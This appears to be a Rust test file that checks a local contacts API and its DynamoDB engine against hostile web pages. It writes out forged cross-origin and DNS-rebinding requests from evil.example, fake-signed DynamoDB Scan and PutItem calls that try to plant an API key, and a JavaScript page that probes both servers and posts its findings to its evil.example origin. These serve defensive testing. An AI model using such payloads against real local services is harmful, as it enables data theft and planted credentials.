//! What a web page in the user's browser can do: nothing. Once with the bytes that a browser would send, and once with a browser.

use std::env;
use std::fs;
use std::path::{Path, PathBuf};
use std::process::Stdio;
use std::sync::{Arc, Mutex};

use axum::Router;
use axum::http::{Method, Request};
use axum::response::Html;
use serde_json::Value;
use tempfile::tempdir;
use testkit::{Serving, contact, eventually, skip};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpListener, TcpStream};
use tokio::process::{Child, Command};

use crate::contacts;

/// What no page may get to know.
const SECRET: &str = "Xanthippe Quux";

/// Serves a folder with one contact in it, with a port for DynamoDB as well. Returns both addresses.
async fn serve(folder: &Path) -> (Serving, String, String) {
    let serving = contacts().serve(folder).with(&["--dynamodb-port", "0"]).start_serving().await;
    serving.caller(None).add(contact().name(SECRET)).await;
    let address = |url: &str| url.trim_start_matches("http://").to_owned();
    let (api, engine) = (address(&serving.url), address(&fs::read_to_string(folder.join("endpoint")).unwrap()));
    (serving, api, engine)
}

/// Sends a request, and returns the whole answer in lower case.
async fn send(address: &str, request: &str, headers: &[&str], body: &str) -> String {
    let headers: String = headers.iter().map(|header| format!("{header}\r\n")).collect();
    let request = format!("{request} HTTP/1.1\r\n{headers}Connection: close\r\nContent-Length: {}\r\n\r\n{body}", body.len());
    let mut connection = TcpStream::connect(address).await.unwrap();
    connection.write_all(request.as_bytes()).await.unwrap();
    let mut answer = String::new();
    connection.read_to_string(&mut answer).await.unwrap();
    answer.to_lowercase()
}

/// Nothing was added, and no key made.
async fn nothing_has_changed(serving: &Serving, folder: &Path) {
    let names: Vec<_> = serving.caller(None).list("").await.contacts().iter().map(|contact| contact.text("name")).collect();
    assert_eq!(names, [SECRET]);
    let keys = contacts().with(&["keys", "list", "--data", folder.to_str().unwrap()]).run().await;
    assert_eq!(keys.output.lines().count(), 2, "{keys:?}");
}

#[tokio::test]
async fn the_api_lends_its_key_only_to_the_user_and_its_own_pages() {
    let folder = tempdir().unwrap();
    let (serving, api, _) = serve(folder.path()).await;
    let port = api.split(':').nth(1).unwrap();
    let own = format!("Host: {api}");
    let new = r#"{"name": "Planted"}"#;

    for (what, request, headers, body) in [
        ("another origin reads", "GET /client-contact", &[&*own, "Origin: https://evil.example"][..], ""),
        ("a sandboxed page reads", "GET /client-contact", &[&own, "Origin: null"], ""),
        ("another local server's page reads", "GET /client-contact", &[&own, "Origin: http://localhost:1"], ""),
        ("a page reads without saying so", "GET /client-contact", &[&own, "Sec-Fetch-Site: cross-site"], ""),
        (
            "a page asks for a form's write",
            "POST /client-contact",
            &[&own, "Origin: https://evil.example", "Content-Type: text/plain"],
            new,
        ),
        ("a rebound name reads", "GET /client-contact", &[&format!("Host: evil.example:{port}")], ""),
        (
            "a rebound name's page writes",
            "POST /client-contact",
            &[
                &format!("Host: evil.example:{port}"),
                &format!("Origin: http://evil.example:{port}"),
                "Sec-Fetch-Site: same-origin",
            ],
            new,
        ),
        ("another port reads", "GET /client-contact", &["Host: localhost:1"], ""),
        ("nobody's host reads", "GET /client-contact", &["Host:"], ""),
        ("two hosts read", "GET /client-contact", &[&own, "Host: evil.example"], ""),
        ("a proxy's target reads", "GET http://evil.example/client-contact", &[&own], ""),
    ] {
        let answer = send(&api, request, headers, body).await;
        assert!(answer.starts_with("http/1.1 401 "), "{what}: {answer}");
        assert!(!answer.contains("access-control-"), "{what}: {answer}");
    }
    let preflight = [&*own, "Origin: https://evil.example", "Access-Control-Request-Method: PUT"];
    let answer = send(&api, "OPTIONS /client-contact", &preflight, "").await;
    assert!(answer.starts_with("http/1.1 404 ") && !answer.contains("access-control-"), "{answer}");
    nothing_has_changed(&serving, folder.path()).await;

    let local = format!("Host: localhost:{port}");
    let page = format!("Origin: http://localhost:{port}");
    for headers in [&[&*own][..], &[&local], &[&local, &page, "Sec-Fetch-Site: same-origin"]] {
        let answer = send(&api, "GET /client-contact", headers, "").await;
        assert!(answer.starts_with("http/1.1 200 "), "{headers:?} {answer}");
    }
    let log = serving.signal("TERM").await.errors;
    assert!(log.contains("without the development key: its Origin is another site"), "{log}");
}

#[tokio::test]
async fn the_engine_answers_no_browser_and_no_rebound_name() {
    let folder = tempdir().unwrap();
    let (serving, _, engine) = serve(folder.path()).await;
    let own = format!("Host: {engine}");
    let signed =
        "Authorization: AWS4-HMAC-SHA256 Credential=a/20260101/us-east-1/dynamodb/aws4_request, SignedHeaders=host, Signature=0";
    let (scan, put) = ("X-Amz-Target: DynamoDB_20120810.Scan", "X-Amz-Target: DynamoDB_20120810.PutItem");
    let all = r#"{"TableName": "ContactsTable"}"#;
    let key = r#"{"TableName": "ApiKeysTable", "Item": {"keyHash": {"S": "planted"}}}"#;

    for (what, request, headers, body) in [
        ("a preflight", "OPTIONS /", &[&*own, "Origin: https://evil.example", "Access-Control-Request-Method: POST"][..], ""),
        ("a page that reads", "POST /", &[&own, "Origin: https://evil.example", scan, signed], all),
        ("a page that plants a key", "POST /", &[&own, "Origin: null", "Content-Type: text/plain", put, signed], key),
        ("the API's own page", "POST /", &[&own, &format!("Origin: {}", serving.url), scan, signed], all),
        ("a rebound name", "POST /", &["Host: evil.example:8000", scan, signed], all),
        ("a browser", "POST /", &[&own, "Sec-Fetch-Site: none", scan, signed], all),
        ("no host", "POST /", &[scan, signed], all),
    ] {
        let answer = send(&engine, request, headers, body).await;
        assert!(answer.starts_with("http/1.1 403 "), "{what}: {answer}");
        assert!(!answer.contains("access-control-") && !answer.contains("quux"), "{what}: {answer}");
    }
    nothing_has_changed(&serving, folder.path()).await;

    for host in [&*own, "Host: localhost:8000", "Host: host.docker.internal:8000", "Host: 172.17.0.1:8000"] {
        let answer = send(&engine, "POST /", &[host, scan, signed], all).await;
        assert!(answer.starts_with("http/1.1 200 ") && answer.contains("quux"), "{answer}");
    }
}

#[cfg(target_os = "linux")]
#[tokio::test]
async fn the_engine_has_no_port_unless_one_is_asked_for() {
    let folder = tempdir().unwrap();
    let serving = contacts().serve(folder.path()).start_serving().await;
    let with_a_port = contacts().with(&["serve", "--port", "0", "--memory", "--dynamodb-port", "0"]).start_serving().await;

    assert_eq!(listening(serving.process()), 1);
    assert_eq!(listening(with_a_port.process()), 2);
    assert!(!folder.path().join("endpoint").exists());
}

/// On how many TCP ports a process listens.
#[cfg(target_os = "linux")]
fn listening(process: u32) -> usize {
    let files = fs::read_dir(format!("/proc/{process}/fd")).unwrap();
    let links = files.filter_map(|file| fs::read_link(file.unwrap().path()).ok());
    let sockets: Vec<String> =
        links.filter_map(|link| Some(link.to_str()?.strip_prefix("socket:[")?.strip_suffix(']')?.to_owned())).collect();
    let tables = ["tcp", "tcp6"].map(|table| fs::read_to_string(format!("/proc/{process}/net/{table}")).unwrap_or_default());
    // The fourth column is the state, of which 0A is listening, and the tenth the socket.
    let is_listening = |line: &&str| {
        let columns: Vec<_> = line.split_whitespace().collect();
        columns.get(3) == Some(&"0A") && columns.get(9).is_some_and(|socket| sockets.iter().any(|own| own == socket))
    };
    tables.iter().flat_map(|table| table.lines()).filter(is_listening).count()
}

/// What the page tries. `API`, `ENGINE` and `OWN` are the servers; it reports what it got to know.
const PAGE: &str = r#"<!DOCTYPE html><script>
const item = JSON.stringify({TableName: "ApiKeysTable", Item: {keyHash: {S: "planted"}}});
const signed = {
  "x-amz-target": "DynamoDB_20120810.Scan",
  "content-type": "application/x-amz-json-1.0",
  "authorization": "AWS4-HMAC-SHA256 Credential=a/20260101/us-east-1/dynamodb/aws4_request, SignedHeaders=host, Signature=0",
};
const plain = {"content-type": "text/plain"};
const planted = JSON.stringify({name: "Planted"});
const attempts = {
  own: ["OWN/own", {}],
  read: ["API/client-contact", {}],
  readByName: ["LOCAL/client-contact", {}],
  readBlindly: ["API/client-contact", {mode: "no-cors"}],
  write: ["API/client-contact", {method: "POST", headers: {"content-type": "application/json"}, body: planted}],
  writeBlindly: ["API/client-contact", {method: "POST", mode: "no-cors", headers: plain, body: planted}],
  delete: ["API/client-contact/ID", {method: "DELETE"}],
  scan: ["ENGINE/", {method: "POST", headers: signed, body: JSON.stringify({TableName: "ContactsTable"})}],
  plant: ["ENGINE/", {method: "POST", headers: {...signed, "x-amz-target": "DynamoDB_20120810.PutItem"}, body: item}],
  plantBlindly: ["ENGINE/", {method: "POST", mode: "no-cors", headers: plain, body: item}],
  lookAtEngine: ["ENGINE/", {}],
};
(async () => {
  const report = {};
  for (const [name, [url, options]] of Object.entries(attempts)) {
    try {
      const answer = await fetch(url, options);
      report[name] = `${answer.type} ${answer.status} ${await answer.text()}`;
    } catch (error) {
      report[name] = "nothing";
    }
  }
  await fetch("OWN/report", {method: "POST", body: JSON.stringify(report)});
})();
</script>"#;

/// A browser that takes every name under `.example` for this machine.
fn browser(program: &Path, profile: &Path) -> Command {
    let mut command = Command::new(program);
    command
        .args(["--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-proxy-server"])
        .arg("--host-resolver-rules=MAP *.example 127.0.0.1")
        .arg(format!("--user-data-dir={}", profile.display()))
        .stdin(Stdio::null())
        .stderr(Stdio::null())
        .kill_on_drop(true);
    command
}

/// A Chromium on this machine, or a word about why the test is skipped.
fn chromium() -> Option<PathBuf> {
    let path = env::var_os("PATH").unwrap_or_default();
    let found = ["chromium", "chromium-browser", "google-chrome"]
        .iter()
        .find_map(|name| env::split_paths(&path).map(|folder| folder.join(name)).find(|program| program.is_file()));
    if found.is_none() {
        skip("it needs a browser, and none of chromium, chromium-browser and google-chrome is installed");
    }
    found
}

#[tokio::test]
async fn a_page_in_a_browser_reaches_neither_the_api_nor_the_engine() {
    let Some(program) = chromium() else { return };
    let (folder, profile) = (tempdir().unwrap(), tempdir().unwrap());
    let (serving, api, engine) = serve(folder.path()).await;
    let id = serving.caller(None).list("").await.contacts()[0].id();
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let own = format!("http://evil.example:{}", listener.local_addr().unwrap().port());
    let page = PAGE
        .replace("OWN", &own)
        .replace("API/", &format!("http://{api}/"))
        .replace("LOCAL/", &format!("http://localhost:{}/", api.split(':').nth(1).unwrap()))
        .replace("ENGINE/", &format!("http://{engine}/"))
        .replace("ID", &id);
    let report: Arc<Mutex<Option<Value>>> = Arc::default();
    let reported = Arc::clone(&report);
    let site = Router::new().fallback(move |request: Request<axum::body::Body>| async move {
        match (request.method(), request.uri().path()) {
            (&Method::POST, "/report") => {
                let body = axum::body::to_bytes(request.into_body(), 1_000_000).await.unwrap();
                *reported.lock().unwrap() = Some(serde_json::from_slice(&body).unwrap());
                Html(String::new())
            }
            (_, "/own") => Html("its own".to_owned()),
            _ => Html(page),
        }
    });
    let site = tokio::spawn(async move { axum::serve(listener, site).await });

    let _browsing: Child = browser(&program, profile.path()).stdout(Stdio::null()).arg(&own).spawn().unwrap();
    let report = eventually("the page's report", async || report.lock().unwrap().take()).await;

    assert_eq!(report["own"], "basic 200 its own");
    let attempts = report.as_object().unwrap();
    assert_eq!(attempts.len(), 11);
    for (attempt, result) in attempts.iter().filter(|(attempt, _)| *attempt != "own") {
        let result = result.as_str().unwrap();
        // An opaque answer is one that the page can make nothing of.
        assert!(["nothing", "opaque 0 "].contains(&result), "{attempt}: {result}");
    }
    nothing_has_changed(&serving, folder.path()).await;
    site.abort();

    // What a page sees whose name came to mean this machine only after it was loaded.
    let port = api.split(':').nth(1).unwrap();
    let profile = tempdir().unwrap();
    let rebound = browser(&program, profile.path())
        .args(["--dump-dom", &format!("http://evil.example:{port}/client-contact")])
        .output()
        .await
        .unwrap();
    let seen = String::from_utf8(rebound.stdout).unwrap();
    assert!(seen.contains("Authentication required") && !seen.contains(SECRET), "{seen}");
}
